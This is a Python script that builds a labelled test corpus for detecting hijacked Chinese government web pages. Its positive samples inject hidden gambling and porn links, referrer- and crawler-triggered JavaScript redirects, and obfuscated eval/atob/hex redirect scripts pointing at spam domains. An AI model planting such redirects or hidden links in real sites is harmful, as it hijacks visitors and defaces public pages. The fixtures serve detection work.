# ruff: noqa: E501 — page fixtures: long HTML lines are the data
"""Regenerate the labelled corpus: ``.venv/bin/python tests/monitoring/corpus/build.py``.

Negatives: every page body in every site chrome, plus a 繁體 version and a mislabelled page.
Positives: base pages with one injection technique each (several variants per technique,
different wording, brands, domains and placements), plus combined hijacks.
The files are committed; this script documents how they were made and makes them reproducible.
"""

from __future__ import annotations

import base64
import json
import random
import re
import sys
from pathlib import Path

import opencc
from pypinyin import Style, lazy_pinyin, pinyin

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from bodies import BODIES, NAME  # noqa: E402
from bodies_hard import HARD  # noqa: E402
from chrome import CHROMES  # noqa: E402

S2T = opencc.OpenCC("s2t")
RNG = random.Random(20250326)
LABELS: dict[str, dict[str, object]] = {}


def page(body_index: int, chrome: str = "modern", head: str = "", foot: str = "") -> str:
    _kind, column, title, body = BODIES[body_index]
    return CHROMES[chrome](title, column, body, head, foot)


def write(rel: str, html: str, *, label: str, technique: str, encoding: str = "utf-8") -> None:
    path = HERE / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(html.encode(encoding))
    LABELS[rel] = {"label": label, "technique": technique, "encoding": encoding}


# --- helpers for transformations -------------------------------------------------------------
def to_pinyin(text: str, sep: str = "") -> str:
    return sep.join(lazy_pinyin(text, style=Style.NORMAL, errors=lambda s: list(s)))


def char_pinyin(text: str, every: int = 1, fullwidth: bool = False, tones: bool = False) -> str:
    out = []
    style = Style.TONE if tones else Style.NORMAL
    for i, ch in enumerate(text):
        if "\u4e00" <= ch <= "\u9fff" and i % every == 0:
            py = pinyin(ch, style=style)[0][0]
            out.append(f"{ch}（{py}）" if fullwidth else f"{ch}({py})")
        else:
            out.append(ch)
    return "".join(out)


def trad_some(text: str, fraction: float) -> str:
    out = []
    for ch in text:
        if "\u4e00" <= ch <= "\u9fff" and RNG.random() < fraction:
            out.append(S2T.convert(ch))
        else:
            out.append(ch)
    return "".join(out)


def map_paragraphs(html: str, fn, which) -> str:  # type: ignore[no-untyped-def]
    count = -1

    def sub(m: re.Match[str]) -> str:
        nonlocal count
        count += 1
        return m.group(1) + (fn(m.group(2)) if which(count) else m.group(2)) + m.group(3)

    return re.sub(r"(<p[^>]*>)(.*?)(</p>)", sub, html, flags=re.DOTALL)


def text_only(fn):  # type: ignore[no-untyped-def]
    """Apply *fn* to text between tags only."""
    return lambda s: re.sub(r"(?<=>)([^<]+)|^([^<]+)", lambda m: fn(m.group(0)), s)


GAMBLING_DOMAINS = [
    "www.8828js.com",
    "ky8899.vip",
    "hth2288.cc",
    "www.amxpj666.com",
    "m.yb6688.top",
    "www.js9999.net",
    "bet365-cn.xyz",
    "www.vns8087.com",
    "hg0088a.com",
    "www.lhc2025.club",
    "www.ayx1314.com",
    "m.leyu77.vip",
    "www.jyh818.com",
    "www.bjl518.cc",
    "tyc3355.com",
]
GAMBLING_ANCHORS = [
    "澳门新葡京",
    "开云体育官网",
    "华体会app下载",
    "百家乐在线",
    "北京赛车pk10",
    "威尼斯人娱乐",
    "六合彩开奖结果",
    "皇冠体育投注",
    "金沙娱乐城",
    "亚博体育app",
    "澳门永利娱乐场",
    "九游会登录入口",
    "真人视讯平台",
    "时时彩计划",
    "乐鱼体育官方网站",
    "快三大小单双",
    "棋牌游戏平台",
    "bet365体育",
]
SEO_DOMAINS = [
    "www.jx-gangjiegou.com",
    "www.sh-banjia365.com",
    "www.hzershouche.net",
    "www.tjzhuangxiu.cn",
    "www.gz-peixun.com",
    "www.cqluyou.net",
    "www.bjzufang88.com",
    "www.szmuying.cn",
]
SEO_ANCHORS = [
    "钢结构厂家",
    "上海搬家公司",
    "杭州二手车",
    "天津装修公司",
    "广州培训机构",
    "重庆旅游",
    "北京租房",
    "深圳母婴",
]
PORN_ANCHORS = [
    "日韩av在线观看",
    "国产精品一区二区",
    "无码高清视频",
    "人妻少妇",
    "免费成人视频",
    "午夜福利视频",
    "欧美激情视频",
    "亚洲av无码",
    "中文字幕在线",
    "偷拍自拍",
    "同城约炮",
    "裸聊直播",
]
PORN_DOMAINS = [
    "www.av6688.xyz",
    "www.91sex.top",
    "seqing99.com",
    "www.haose88.vip",
    "www.jav520.cc",
    "www.xxav.club",
]


def links(anchors: list[str], domains: list[str], n: int, sep: str = " ") -> str:
    picks = RNG.sample(range(len(anchors)), min(n, len(anchors)))
    return sep.join(
        f'<a href="http://{RNG.choice(domains)}/" target="_blank">{anchors[i]}</a>' for i in picks
    )


# --- negatives ----------------------------------------------------------------------------------
def negatives() -> None:
    n = 0
    for i, (kind, *_rest) in enumerate(BODIES):
        for chrome in ("modern", "table", "platform"):
            n += 1
            enc = "gb18030" if chrome == "table" else "utf-8"
            write(
                f"negative/{n:03d}_{kind}_{chrome}.html",
                page(i, chrome),
                label="negative",
                technique=kind,
                encoding=enc,
            )
    for j, (kind, column, title, body) in enumerate(HARD):
        chrome = ("modern", "platform")[j % 2]
        if kind == "hard_home_keywords":
            # The homepage's long but honest keyword list goes into the head.
            html = CHROMES[chrome](
                title,
                column,
                body,
                '<meta name="keywords" content="示例市科学技术局,科技局,科学技术,科技创新,高新技术,知识产权,专利,科技计划,科技项目,科技成果,科技服务,孵化器,众创空间,科技型中小企业,高新技术企业,技术合同">',
            )
            html = html.replace('<meta name="keywords" content="示例市科学技术局,首页">\n', "")
            write(
                f"negative/hard_{j + 1:02d}_{kind[5:]}.html", html, label="negative", technique=kind
            )
            continue
        write(
            f"negative/hard_{j + 1:02d}_{kind[5:]}.html",
            CHROMES[chrome](title, column, body),
            label="negative",
            technique=kind,
        )
    # The 繁體 version of a page (the site offers /big5/): fully traditional, not interleaved.
    write(
        "negative/big5_version_notice.html",
        S2T.convert(page(0)),
        label="negative",
        technique="traditional_version",
    )
    # UTF-8 bytes behind a gb2312 meta tag (a common mislabelling after a CMS upgrade).
    write(
        "negative/mislabelled_meta_gb2312.html",
        page(2, "table"),
        label="negative",
        technique="mislabelled",
    )
    # A news page quoting a Hong Kong name and a classical title: a few traditional characters.
    html = page(21).replace("会议指出", "会议引用《國語》“學而時習之”并指出")
    write("negative/few_traditional_chars.html", html, label="negative", technique="news")


# --- positives ----------------------------------------------------------------------------------
def pos(tech: str, n: int, html: str, encoding: str = "utf-8") -> None:
    write(
        f"positive/{tech}/{n:02d}.html", html, label="positive", technique=tech, encoding=encoding
    )


def brand_swap() -> None:
    brands = [
        "开云体育(中国)官方网站",
        "华体会体育·HTH官方网站",
        "九游会J9·(中国)官方网站-登录入口",
        "米乐m6体育app下载",
        "尊龙凯时·人生就是博(中国)官方网站",
        "天博体育官方网站",
        "金沙娱乐城官网",
        "爱游戏ayx官方网站入口",
    ]
    for k, brand in enumerate(brands, 1):
        base = page(k % len(BODIES), ("modern", "table", "platform")[k % 3])
        html = (
            base.replace(NAME, brand)
            if k % 2
            else re.sub(r"<title>(.*?)</title>", f"<title>{brand}</title>", base, count=1).replace(
                f"主办单位：{NAME}", f"主办单位：{brand}"
            )
        )
        pos("brand_swap", k, html, "gb18030" if k % 3 == 0 else "utf-8")
    html = page(1).replace("示例市科学技术局", "澳门银河科学技术局")
    pos("brand_swap", len(brands) + 1, html)
    titles = [
        "亚博买球app(中国)官方网站-IOS/安卓通用版/手机APP下载",
        "必一运动(B-Sports)官方网站",
        "bob半岛·(中国)官方网站",
        "雷竞技RAYBET(中国)官方网站-电竞赛事竞猜平台",
    ]
    for k, title in enumerate(titles, len(brands) + 2):
        html = re.sub(
            r"<title>.*?</title>", f"<title>{title}</title>", page(k % len(BODIES)), count=1
        )
        pos("brand_swap", k, html)


def pinyin_runs() -> None:
    variants = [
        (0, lambda h: map_paragraphs(h, text_only(to_pinyin), lambda i: i in (0, 1, 3))),
        (1, lambda h: map_paragraphs(h, text_only(to_pinyin), lambda i: i % 2 == 0)),
        (
            2,
            lambda h: map_paragraphs(
                h,
                text_only(lambda s: to_pinyin(s[: len(s) // 2]) + s[len(s) // 2 :]),
                lambda i: True,
            ),
        ),
        (5, lambda h: map_paragraphs(h, text_only(lambda s: to_pinyin(s, " ")), lambda i: i < 3)),
        (
            14,
            lambda h: map_paragraphs(
                h, text_only(lambda s: to_pinyin(s).capitalize()), lambda i: 1 <= i <= 4
            ),
        ),
        (
            20,
            lambda h: re.sub(
                r"<h1>(.*?)</h1>", lambda m: "<h1>" + to_pinyin(m.group(1)) + "</h1>", h
            ).replace("<title>", "<title>" + to_pinyin("示例市科学技术局关于"), 1),
        ),
        (16, lambda h: map_paragraphs(h, text_only(to_pinyin), lambda i: i in (2, 4))),
    ]
    for k, (idx, fn) in enumerate(variants, 1):
        pos(
            "pinyin_run",
            k,
            fn(page(idx, ("modern", "table", "platform")[k % 3])),
            "gb18030" if k % 3 == 1 else "utf-8",
        )


def char_pinyin_pairs() -> None:
    variants = [
        (0, lambda s: char_pinyin(s)),
        (1, lambda s: char_pinyin(s, every=2)),
        (2, lambda s: char_pinyin(s, fullwidth=True, tones=True)),
        (5, lambda s: char_pinyin(s, every=3, tones=True)),
        (14, lambda s: char_pinyin(s[:30]) + s[30:]),
        (21, lambda s: char_pinyin(s, fullwidth=True)),
    ]
    for k, (idx, fn) in enumerate(variants, 1):
        html = map_paragraphs(
            page(idx, ("modern", "table", "platform")[k % 3]),
            text_only(fn),
            lambda i: i in (0, 2, 3),
        )
        pos("char_pinyin", k, html)


def trad_simp() -> None:
    for k, (idx, frac) in enumerate(
        [(0, 0.15), (1, 0.3), (2, 0.5), (14, 0.7), (20, 0.25), (15, 0.4)], 1
    ):
        html = map_paragraphs(
            page(idx, ("modern", "table", "platform")[k % 3]),
            text_only(lambda s, f=frac: trad_some(s, f)),
            lambda i: True,
        )
        if k == 5:
            html = html.replace(
                "<title>", "<title>" + S2T.convert("示例市科学技术局官方网站") + "-", 1
            )
        pos("trad_simp", k, html, "gb18030" if k == 6 else "utf-8")


def link_block() -> None:
    variants = [
        lambda: page(0).replace(
            "</html>", "</html>\n<div>" + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 10) + "</div>"
        ),
        lambda: page(3).replace(
            "</body>",
            '<div class="links">'
            + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 12, "<br>")
            + "</div></body>",
        ),
        lambda: page(4, "table").replace(
            "</body>", "<p>" + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 8, " | ") + "</p></body>"
        ),
        lambda: page(6).replace("</html>", "</html>" + links(SEO_ANCHORS, SEO_DOMAINS, 8)),
        lambda: page(7, "platform").replace(
            "</body>",
            "<ul>"
            + "".join(
                f"<li>{a}</li>"
                for a in links(
                    SEO_ANCHORS + GAMBLING_ANCHORS[:4], SEO_DOMAINS + GAMBLING_DOMAINS[:4], 10, "\n"
                ).split("\n")
            )
            + "</ul></body>",
        ),
        lambda: page(18).replace(
            '<div class="footer">',
            "<div>热门推荐："
            + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 6, "、")
            + '</div><div class="footer">',
        ),
        lambda: page(12, "table").replace(
            "</html>", "</html>\n" + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 15, "\n")
        ),
    ]
    for k, fn in enumerate(variants, 1):
        pos("link_block", k, fn(), "gb18030" if k in (3, 7) else "utf-8")


HIDE_STYLES = [
    ('<div style="display:none">', "</div>"),
    ('<div style="visibility: hidden; height:0">', "</div>"),
    ('<div style="position:absolute;top:-3000px;left:-3000px;">', "</div>"),
    ('<span style="font-size:0px;line-height:0">', "</span>"),
    ('<div style="color:#FFFFFF">', "</div>"),
    ('<marquee height="1" width="1" scrollamount="3000" scrolldelay="20000">', "</marquee>"),
    ('<style>.f2k8{display:none}</style><div class="f2k8">', "</div>"),
    (
        '<div id="linkx9">',
        '</div><script>document.getElementById("linkx9").style.display="none";</script>',
    ),
    ('<p style="text-indent:-9999em;overflow:hidden;height:1px">', "</p>"),
    ('<div style="opacity:0;">', "</div>"),
    ('<div style="height:0;overflow:hidden">', "</div>"),
]


def hidden_links() -> None:
    k = 0
    for n, (open_, close) in enumerate(HIDE_STYLES):
        k += 1
        anchors, domains = (
            (SEO_ANCHORS, SEO_DOMAINS) if n % 4 == 3 else (GAMBLING_ANCHORS, GAMBLING_DOMAINS)
        )
        block = open_ + links(anchors, domains, RNG.randint(3, 9)) + close
        base = page(n % len(BODIES), ("modern", "table", "platform")[n % 3])
        where = ("</body>", "<body", '<div class="main"')[n % 3]
        if where == "<body":
            html = re.sub(r"(<body[^>]*>)", lambda m, b=block: m.group(1) + b, base, count=1)
        elif where in base:
            html = base.replace(where, block + where, 1)
        else:
            html = base.replace("</body>", block + "</body>")
        pos("hidden_links", k, html, "gb18030" if n % 3 == 1 else "utf-8")
    k += 1
    pos(
        "hidden_links",
        k,
        page(8).replace(
            "</body>",
            '<iframe src="http://www.ky8899.vip/tj.html" width="0" height="0" frameborder="0"></iframe></body>',
        ),
    )
    k += 1
    pos(
        "hidden_links",
        k,
        page(9, "table").replace(
            "</body>", '<iframe src="https://hth2288.cc/" style="display:none"></iframe></body>'
        ),
        "gb18030",
    )
    k += 1
    # Hidden with the table chrome's own idiom: white font on the white page.
    pos(
        "hidden_links",
        k,
        page(10, "table").replace(
            "</body>",
            '<font color="#ffffff">'
            + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 6)
            + "</font></body>",
        ),
        "gb18030",
    )


def js_redirect() -> None:
    variants = [
        (
            0,
            "head",
            """<script>var r=document.referrer;if(r.indexOf("baidu.com")>-1||r.indexOf("sogou.com")>-1||r.indexOf("so.com")>-1){window.location.href="https://www.ky8899.vip/?from=gov";}</script>""",
        ),
        (
            1,
            "head",
            """<script type="text/javascript">var ua=navigator.userAgent.toLowerCase();if(/baiduspider|sogou|360spider|googlebot|bingbot/.test(ua)){document.write('<div>'+'<a href="http://www.amxpj666.com/">澳门新葡京</a><a href="http://www.js9999.net/">金沙娱乐</a><a href="http://hth2288.cc/">华体会</a></div>');}</script>""",
        ),
        (2, "head", '<meta http-equiv="refresh" content="0;url=http://www.yb6688.top/">'),
        (
            3,
            "foot",
            """<script>setTimeout(function(){window.location.replace("https://" + "hth" + "2288.cc" + "/index.html");},1500);</script>""",
        ),
        (
            4,
            "foot",
            """<script>if(self==top){top.location.href='http://m.leyu77.vip/reg?code=8866';}</script>""",
        ),
        (
            5,
            "head",
            """<script>(function(){var s=document.createElement('script');s.src='https://cdn.yl8899.top/tj/push.js?v=3';document.getElementsByTagName('head')[0].appendChild(s);})();</script>""",
        ),
        (
            12,
            "foot",
            """<script language="javascript">document.write('<script src="https://js.vns8087.com/jump.js"><\\/script>');</script>""",
        ),
        (
            14,
            "head",
            """<script>if(document.referrer.match(/(baidu|sm\\.cn|toutiao|sogou|so\\.com)/i)){var t=document.title;document.title="\u6fb3\u95e8\u91d1\u6c99";location.replace("https://www.js9999.net/");}</script>""",
        ),
    ]
    for k, (idx, where, snippet) in enumerate(variants, 1):
        chrome = ("modern", "table", "platform")[k % 3]
        html = (
            page(idx, chrome, head=snippet) if where == "head" else page(idx, chrome, foot=snippet)
        )
        pos("js_redirect", k, html, "gb18030" if chrome == "table" else "utf-8")


def _hex(s: str) -> str:
    return "".join(f"\\x{b:02x}" for b in s.encode())


def _packed(code: str) -> str:
    words = sorted(set(re.findall(r"\b\w+\b", code)), key=lambda w: (-code.count(w), w))
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"

    def enc(n: int) -> str:
        return digits[n] if n < 36 else digits[n // 36] + digits[n % 36]

    table = {w: enc(i) for i, w in enumerate(words)}
    payload = re.sub(r"\b\w+\b", lambda m: table[m.group(0)], code).replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{payload}',36,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


def obfuscated() -> None:
    redirect = "if(document.referrer.indexOf('baidu')>=0){window.location.href='https://www.amxpj666.com/';}"
    linkwrite = 'document.write(\'<div style="display:none"><a href="http://www.bjl518.cc/">百家乐</a><a href="http://tyc3355.com/">太阳城</a></div>\');'
    url = "https://m.yb6688.top/?a=9"
    variants = [
        f"<script>{_packed(redirect)}</script>",
        f'<script>eval("{_hex(linkwrite)}");</script>',
        "<script>var u=String.fromCharCode("
        + ",".join(str(ord(c)) for c in url)
        + ");window.location.href=u;</script>",
        f'<script>var _0x1a=atob("{base64.b64encode(url.encode()).decode()}");setTimeout(function(){{location.replace(_0x1a)}},800);</script>',
        '<script>document.write(unescape("'
        + "".join(
            f"%{b:02X}"
            for b in '<div style="position:absolute;left:-5000px"><a href="http://www.vns8087.com/">威尼斯人</a> <a href="http://hg0088a.com/">皇冠体育</a></div>'.encode()
        )
        + '"));</script>',
        f'<script>eval(atob("{base64.b64encode(("eval(" + chr(34) + _hex(redirect) + chr(34) + ")").encode()).decode()}"));</script>',
        '<script>window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]["\\x68\\x72\\x65\\x66"]="'
        + _hex("http://www.ayx1314.com/")
        + '";</script>',
    ]
    for k, snippet in enumerate(variants, 1):
        chrome = ("modern", "table", "platform")[k % 3]
        html = page(
            (k * 3) % len(BODIES),
            chrome,
            head=snippet if k % 2 else "",
            foot="" if k % 2 else snippet,
        )
        pos("obfuscated_script", k, html, "gb18030" if chrome == "table" else "utf-8")


def keyword_stuffing() -> None:
    def retitle(html: str, title: str) -> str:
        return re.sub(
            r"<title>.*?</title>", f"<title>{title}</title>", html, count=1, flags=re.DOTALL
        )

    def rekeywords(html: str, kw: str) -> str:
        return re.sub(
            r'<meta name="keywords" content="[^"]*">',
            f'<meta name="keywords" content="{kw}">',
            html,
            count=1,
        )

    def redesc(html: str, desc: str) -> str:
        return re.sub(
            r'<meta name="description" content="[^"]*">',
            f'<meta name="description" content="{desc}">',
            html,
            count=1,
        )

    v = [
        retitle(
            page(0),
            "科技项目申报-科技项目申报条件-科技项目申报流程-科技项目申报时间-科技项目申报系统",
        ),
        rekeywords(
            page(1),
            ",".join(
                [
                    "高新技术企业认定",
                    "高企认定",
                    "高新技术企业认定条件",
                    "高新技术企业认定流程",
                    "高企申报",
                    "高新技术企业补贴",
                    "高企代理",
                    "高新认定代办",
                    "科技型中小企业",
                    "专利申请",
                    "商标注册",
                    "软件著作权",
                    "知识产权代理",
                    "项目申报代理",
                    "政府补贴申请",
                    "研发费用加计扣除",
                    "科技项目咨询",
                    "高企培训",
                ]
            ),
        ),
        redesc(
            page(2), "澳门威尼斯人,威尼斯人官网,威尼斯人娱乐,威尼斯人app,威尼斯人注册,威尼斯人登录"
        ),
        retitle(
            page(3, "table"), "亚博体育-亚博体育官网-亚博体育app-亚博体育注册-示例市科学技术局"
        ),
        rekeywords(
            page(4, "platform"),
            "开云,开云体育,开云官网,开云app,开云登录,开云注册,开云下载,开云平台",
        ),
        retitle(
            page(5),
            "二手车_二手车交易市场_二手车报价_二手车之家_二手车评估_二手车过户_二手车贷款_二手车出口_示例市二手车网",
        ),
        redesc(
            retitle(page(6), "专利代理|专利申请|专利转让|专利查询|专利检索|专利年费|专利代理机构"),
            "专利申请专利申请专利申请,专利代理首选,专利申请费用,专利申请流程",
        ),
    ]
    for k, html in enumerate(v, 1):
        pos("keyword_stuffing", k, html, "gb18030" if k == 4 else "utf-8")


def porn() -> None:
    v = [
        page(0).replace(
            "</body>",
            '<div style="display:none">' + links(PORN_ANCHORS, PORN_DOMAINS, 8) + "</div></body>",
        ),
        re.sub(
            r"<title>.*?</title>",
            "<title>日韩av在线观看_国产精品一区二区_无码高清视频</title>",
            page(1),
            count=1,
        ),
        page(2).replace(
            "</p>\n</div>",
            "</p><p>免费成人视频在线观看，国产精品人妻少妇，午夜福利视频每日更新，最新地址 www.av6688.xyz</p>\n</div>",
            1,
        ),
        re.sub(
            r'<meta name="description" content="[^"]*">',
            '<meta name="description" content="人妻少妇,偷拍自拍,欧美激情视频,中文字幕在线,亚洲av无码">',
            page(3),
            count=1,
        ),
        page(4, "table").replace("</html>", "</html>" + links(PORN_ANCHORS, PORN_DOMAINS, 10)),
        page(5).replace(
            "</body>",
            "<p>同\u200b城\u200b约\u200b炮，裸\u200b聊\u200b直\u200b播，ｗｗｗ．ｈａｏｓｅ８８．ｖｉｐ</p></body>",
        ),
    ]
    for k, html in enumerate(v, 1):
        pos("porn_spam", k, html, "gb18030" if k == 5 else "utf-8")


def combined() -> None:
    # 1. The classic: title/meta swapped for a brand, first paragraphs as pinyin, hidden links,
    #    search-engine-only redirect.
    h = page(
        0,
        head='<script>if(/baidu|sogou|sm\\.cn/.test(document.referrer)){location.href="https://ky8899.vip/"}</script>',
    )
    h = re.sub(
        r"<title>.*?</title>", "<title>开云体育(中国)官方网站-KAIYUN SPORTS</title>", h, count=1
    )
    h = map_paragraphs(h, text_only(to_pinyin), lambda i: i in (0, 1))
    h = h.replace(
        "</body>",
        '<div style="display:none">'
        + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 6)
        + "</div></body>",
    )
    pos("combined", 1, h)
    # 2. Clone page: brand in name positions, char(pinyin) pairs, trad interleave, link block.
    h = page(1).replace(NAME, "华体会体育")
    h = map_paragraphs(
        h, text_only(lambda s: trad_some(char_pinyin(s, every=2), 0.3)), lambda i: i < 4
    )
    h = h.replace("</html>", "</html>" + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 9))
    pos("combined", 2, h)
    # 3. Old GBK site: packed redirect + white-on-white links + stuffed keywords.
    h = page(
        4,
        "table",
        head=f"<script>{_packed('if(navigator.userAgent.indexOf(String.fromCharCode(115,112,105,100,101,114))<0){location.href=' + chr(39) + 'http://www.lhc2025.club/' + chr(39) + '}')}</script>",
    )
    h = h.replace(
        'content="科技局,示例市,统计信息"',
        'content="六合彩,六合彩开奖,六合彩资料,六合彩官网,香港六合彩"',
    )
    h = h.replace(
        "</body>",
        '<font color="#FFFFFF">' + links(GAMBLING_ANCHORS, GAMBLING_DOMAINS, 5) + "</font></body>",
    )
    pos("combined", 3, h, "gb18030")
    # 4. Porn + gambling mixed, text appended, pinyin sentence spin.
    h = page(12)
    h = h.replace(
        "</p>\n</div>",
        "</p><p>"
        + to_pinyin("各处室局属各单位根据全市工作领导小组部署")
        + "。百家乐平台注册送彩金，日韩av在线观看，最新网址：www.bjl518.cc</p>\n</div>",
        1,
    )
    pos("combined", 4, h)
    # 5. Only subtle traces: description swapped, one hidden off-screen link, one pinyin paragraph.
    h = re.sub(
        r'<meta name="description" content="[^"]*">',
        '<meta name="description" content="乐鱼体育官方网站提供体育投注、真人娱乐、电子游艺，新用户注册即送彩金">',
        page(19),
        count=1,
    )
    h = h.replace(
        "</body>",
        '<a href="http://m.leyu77.vip/" style="position:absolute;left:-8000px">乐鱼体育</a></body>',
    )
    h = map_paragraphs(h, text_only(to_pinyin), lambda i: i == 1)
    pos("combined", 5, h)
    # 6. Full hijack of the information-disclosure platform page.
    h = page(
        15,
        "platform",
        foot='<script>eval("'
        + _hex("document.write('<a href=\"https://www.jyh818.com\">九游会</a>')")
        + '")</script>',
    )
    h = h.replace("示例市科学技术局政府信息公开平台", "九游会·J9(中国)官方网站")
    h = map_paragraphs(h, text_only(lambda s: trad_some(s, 0.4)), lambda i: True)
    pos("combined", 6, h)


def main() -> None:
    for old in HERE.glob("*/**/*.html"):
        old.unlink()
    negatives()
    brand_swap()
    pinyin_runs()
    char_pinyin_pairs()
    trad_simp()
    link_block()
    hidden_links()
    js_redirect()
    obfuscated()
    keyword_stuffing()
    porn()
    combined()
    # The mislabelled page: UTF-8 bytes, GB2312 in the meta tag.
    (HERE / "labels.json").write_text(
        json.dumps(LABELS, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8"
    )
    pos_n = sum(1 for v in LABELS.values() if v["label"] == "positive")
    print(f"{pos_n} positives, {len(LABELS) - pos_n} negatives")


if __name__ == "__main__":
    main()
